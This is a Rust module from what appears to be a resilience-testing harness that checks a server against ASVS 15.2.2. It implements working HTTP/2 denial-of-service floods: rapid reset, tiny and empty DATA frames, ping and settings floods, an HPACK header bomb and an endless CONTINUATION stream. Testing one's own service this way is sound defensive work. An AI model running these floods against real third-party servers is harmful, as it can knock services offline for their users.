//! Floods of HTTP/2 frames: each is cheap to send, and was expensive to take somewhere.

use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use crate::victim::Victim;
use crate::wire::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, LAST_INDEXED, PING,
    RST_STREAM, SETTINGS, frame, indexed_literal, literals,
};

/// How many connections attack at once.
const CONNECTIONS: usize = 4;
/// Frames that are written at once.
const BATCH: u32 = 100;

/// An attack that goes on while others call.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    pub(crate) asvs: &'static str,
    /// What it does many times.
    pub(crate) act: &'static str,
    pub(crate) connections: usize,
    /// One connection, until it is closed or broken off.
    pub(crate) run: fn(Attacker) -> Attempt,
}

/// What one connection does.
type Attempt = Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

/// One of the attackers.
#[derive(Clone)]
pub(crate) struct Attacker {
    pub(crate) address: SocketAddr,
    pub(crate) authorization: Arc<str>,
    acts: Arc<AtomicU64>,
}

impl Attacker {
    /// Counts what was done, and tells how much it was before.
    pub(crate) fn did(&self, acts: u32) -> u64 {
        self.acts.fetch_add(acts.into(), Ordering::Relaxed)
    }
}

/// What attackers did.
pub(crate) struct Did {
    pub(crate) acts: u64,
    pub(crate) connections: u64,
}

/// Attackers at work.
pub(crate) struct Attackers {
    tasks: JoinSet<()>,
    acts: Arc<AtomicU64>,
    connections: Arc<AtomicU64>,
}

/// Nobody attacks.
pub(crate) const NONE: Flood = Flood {
    name: "none",
    asvs: "-",
    act: "attacks",
    connections: 0,
    run: |_| Box::pin(std::future::pending()),
};

/// All floods of frames.
pub(crate) const ALL: &[Flood] = &[
    Flood {
        name: "rapid reset",
        asvs: "15.2.2",
        act: "streams opened and reset",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(rapid_reset(attacker)),
    },
    Flood {
        name: "tiny DATA",
        asvs: "15.2.2",
        act: "frames of one byte",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(data(attacker, b" ")),
    },
    Flood {
        name: "empty DATA",
        asvs: "15.2.2",
        act: "frames of no byte",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(data(attacker, b"")),
    },
    Flood {
        name: "ping",
        asvs: "15.2.2",
        act: "pings",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(repeat(attacker, true, frame(PING, 0, 0, &[0; 8]))),
    },
    Flood {
        name: "ping, unread",
        asvs: "15.2.2",
        act: "pings whose answers are not read",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(repeat(attacker, false, frame(PING, 0, 0, &[0; 8]))),
    },
    Flood {
        name: "settings",
        asvs: "15.2.2",
        act: "changes of settings",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(repeat(attacker, true, frame(SETTINGS, 0, 0, &[]))),
    },
    Flood {
        name: "header bomb",
        asvs: "15.2.2",
        act: "requests of 60 MB of headers in 16 kB",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(header_bomb(attacker)),
    },
    Flood {
        name: "continuation",
        asvs: "15.2.2",
        act: "frames of headers without an end",
        connections: CONNECTIONS,
        run: |attacker| Box::pin(continuation(attacker)),
    },
];

/// Begins an attack.
pub(crate) fn begin(victim: &Victim, attack: &Flood, stop: &CancellationToken) -> Attackers {
    let attacker = Attacker {
        address: victim.address,
        // Somebody who may call: whoever may not is turned away sooner.
        authorization: victim
            .authorization("attacker", &["machine"])
            .unwrap_or_default()
            .into(),
        acts: Arc::default(),
    };
    let connections = Arc::new(AtomicU64::new(0));
    let mut tasks = JoinSet::new();
    for _ in 0..attack.connections {
        let (run, attacker, count) = (attack.run, attacker.clone(), Arc::clone(&connections));
        let stop = stop.clone();
        tasks.spawn(async move {
            // Closed on it or broken: it comes back at once.
            while let Some(ended) = stop.run_until_cancelled(run(attacker.clone())).await {
                drop(ended);
                count.fetch_add(1, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
            count.fetch_add(1, Ordering::Relaxed);
        });
    }
    Attackers {
        tasks,
        acts: attacker.acts,
        connections,
    }
}

impl Attackers {
    /// Waits until all have stopped.
    pub(crate) async fn ended(self) -> Did {
        self.tasks.join_all().await;
        Did {
            acts: self.acts.load(Ordering::Relaxed),
            connections: self.connections.load(Ordering::Relaxed),
        }
    }
}

fn request(attacker: &Attacker, method: &str, path: &str) -> Vec<u8> {
    literals(&[
        (":method", method),
        (":scheme", "http"),
        (":authority", "patron"),
        (":path", path),
        ("authorization", &attacker.authorization),
        ("content-type", "application/json"),
    ])
}

async fn rapid_reset(attacker: Attacker) -> io::Result<()> {
    let mut connection = Connection::open(attacker.address, true).await?;
    let head = request(&attacker, "GET", "/v1/programs");
    loop {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            let Some(stream) = connection.stream() else {
                return Ok(());
            };
            batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
            batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        connection.send(&batch).await?;
        attacker.did(BATCH);
    }
}

/// A request whose body comes in the smallest pieces; a new one when its window is full.
async fn data(attacker: Attacker, piece: &[u8]) -> io::Result<()> {
    const PIECES: u32 = 60_000;
    let mut connection = Connection::open(attacker.address, true).await?;
    let head = request(&attacker, "POST", "/v1/activities:batchRecord");
    while let Some(stream) = connection.stream() {
        connection
            .send(&frame(HEADERS, END_HEADERS, stream, &head))
            .await?;
        for _ in 0..PIECES / BATCH {
            // Beyond its window it would be closed at once, and that would be the end of it.
            let bytes = i64::from(BATCH) * i64::try_from(piece.len()).unwrap_or_default();
            if !connection.may_send(bytes).await {
                return Ok(());
            }
            let batch = frame(DATA, 0, stream, piece).repeat(BATCH as usize);
            connection.send(&batch).await?;
            attacker.did(BATCH);
        }
    }
    Ok(())
}

async fn repeat(attacker: Attacker, reads: bool, frame: Vec<u8>) -> io::Result<()> {
    let mut connection = Connection::open(attacker.address, reads).await?;
    let batch = frame.repeat(BATCH as usize);
    while connection.stream().is_some() {
        connection.send(&batch).await?;
        attacker.did(BATCH);
    }
    Ok(())
}

/// A header of 4 kB goes into the table of the connection, and is then named over and over by one byte.
async fn header_bomb(attacker: Attacker) -> io::Result<()> {
    const NAMED: usize = 15_000;
    let mut connection = Connection::open(attacker.address, true).await?;
    while let Some(stream) = connection.stream() {
        let mut first = request(&attacker, "GET", "/v1/programs");
        first.extend(indexed_literal("bomb", &"x".repeat(4000)));
        let named = vec![LAST_INDEXED; NAMED];
        let mut bytes = frame(HEADERS, END_STREAM, stream, &first);
        bytes.extend(frame(CONTINUATION, END_HEADERS, stream, &named));
        connection.send(&bytes).await?;
        attacker.did(1);
    }
    Ok(())
}

/// Headers that never end.
async fn continuation(attacker: Attacker) -> io::Result<()> {
    let mut connection = Connection::open(attacker.address, true).await?;
    let Some(stream) = connection.stream() else {
        return Ok(());
    };
    let head = request(&attacker, "GET", "/v1/programs");
    connection
        .send(&frame(HEADERS, END_STREAM, stream, &head))
        .await?;
    let more = frame(
        CONTINUATION,
        0,
        stream,
        &literals(&[("more", &"x".repeat(8000))]),
    );
    while connection.stream().is_some() {
        connection.send(&more).await?;
        attacker.did(1);
    }
    Ok(())
}
